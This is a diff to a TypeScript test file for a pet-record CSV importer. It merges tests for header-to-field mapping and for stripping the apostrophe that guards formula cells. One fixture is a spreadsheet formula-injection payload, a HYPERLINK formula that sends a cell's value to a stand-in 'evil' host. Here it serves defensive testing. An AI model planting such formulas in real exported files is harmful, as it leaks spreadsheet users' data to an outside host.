@@ -44,12 +44,9 @@ describe('a header refused (a field missing or twice, a --column header missing 
 });
 
 describe('--column field=header', () => {
-  it('maps any header to a field; repeated, for several fields', async () => {
-    const options: ReadOptions = { columns: [{ field: 'name', header: 'Animal' }, { field: 'status', header: 'State' }, { field: 'categoryId', header: 'Category' }] };
-    expect(pets(await read('Animal,Category,State\nRex,7,Sold\n', options))).toEqual([{ name: 'Rex', categoryId: 7, status: 'sold' }]);
-  });
-
-  it('the header is matched as written, trimmed, in any case; a header that would match the field loosely is then ignored', async () => {
+  it('maps any header to a field, for several, matched as written, trimmed, any case; a loose match ignored', async () => {
+    const several: ReadOptions = { columns: [{ field: 'name', header: 'Animal' }, { field: 'status', header: 'State' }, { field: 'categoryId', header: 'Category' }] };
+    expect(pets(await read('Animal,Category,State\nRex,7,Sold\n', several))).toEqual([{ name: 'Rex', categoryId: 7, status: 'sold' }]);
     const ignored: string[] = [];
     const options: ReadOptions = { columns: [{ field: 'name', header: ' animal name ' }], onIgnored: (name) => ignored.push(name) };
     expect(pets(await read('Name,Animal Name,categoryId\nMs Smith,Rex,1\n', options))).toEqual([{ name: 'Rex', categoryId: 1 }]);
@@ -81,7 +78,7 @@ describe('--column field=header', () => {
 });
 
 describe('cells stay text: the `\'` -o csv writes before a formula is dropped on import', () => {
-  it('before =, +, -, @, a tab or a CR, and nowhere else', async () => {
+  it('before =, +, -, @, a tab or a CR, and nowhere else; in a status, a category id, the --id-column', async () => {
     // Each cell as the file has it, and the name read from it.
     const cells: Array<[string, string]> = [
       [`"'=HYPERLINK(""http://evil/?x=""&A1,""click"")"`, '=HYPERLINK("http://evil/?x="&A1,"click")'],
@@ -97,9 +94,6 @@ describe('cells stay text: the `\'` -o csv writes before a formula is dropped on
     expect((await read(csv)).map((row) => row.newPet?.name ?? row.reason)).toEqual(cells.map(([, name]) => name));
     // JSON carries the exact value.
     expect((await read('[{"name":"\'=x","categoryId":1}]')).map((row) => row.newPet?.name)).toEqual(["'=x"]);
-  });
-
-  it('in every column read: a status, a category id and the --id-column', async () => {
     const rows = await read("Intake,name,categoryId,status\n'-7,Rex,'-5,'=sold\n", { idColumn: 'Intake' });
     expect(rows[0]!.rowId).toBe('-7');
     expect(rows[0]!.reason).toBe('status must be one of available, pending, sold, not "=sold"');
